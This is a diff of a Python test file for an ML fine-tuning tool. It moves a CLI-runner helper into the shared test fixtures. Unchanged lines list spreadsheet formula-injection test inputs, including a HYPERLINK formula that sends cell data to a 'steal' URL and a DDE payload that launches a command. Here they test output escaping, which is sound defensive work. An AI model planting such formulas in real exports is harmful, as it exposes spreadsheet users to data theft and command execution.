@@ -20,12 +20,11 @@ import pandas as pd
 import pytest
 from mlflow import MlflowClient
 
-from flows.cli import main
 from tasks.config import FinetuneParams, Paths, load_params
 from tasks.finetune import finetune
 from tasks.predict import FORMULA_START, escape_formula, model_uri
 from tasks.register import _experiment_id, _log_model, _tracking, tracking_uri
-from tests.conftest import cfpb_sample, make_project, project_params
+from tests.conftest import cfpb_sample, make_project, nichetune, project_params
 
 HOSTILE = ['=HYPERLINK("http://example.org/steal?x="&A1,"click")', "", "-2+3", "@SUM(A1:A9)", "\tindented",
            "+cmd|' /C calc'!A0"]
@@ -60,17 +59,6 @@ def new_rows(project) -> Path:
     frame.to_csv(root / "data" / "new.csv", index=False)
     return root / "data" / "new.csv"
 
-
-def nichetune(root: Path, monkeypatch, capsys, *args: str) -> tuple[int, str, str]:
-    """Run the CLI in the project folder; returns the exit code, stdout and stderr."""
-    monkeypatch.chdir(root)
-    try:
-        main(list(args))
-        code = 0
-    except SystemExit as stop:
-        code = stop.code
-    out, err = capsys.readouterr()
-    return code, out, err
 
 
 def unescape(value):
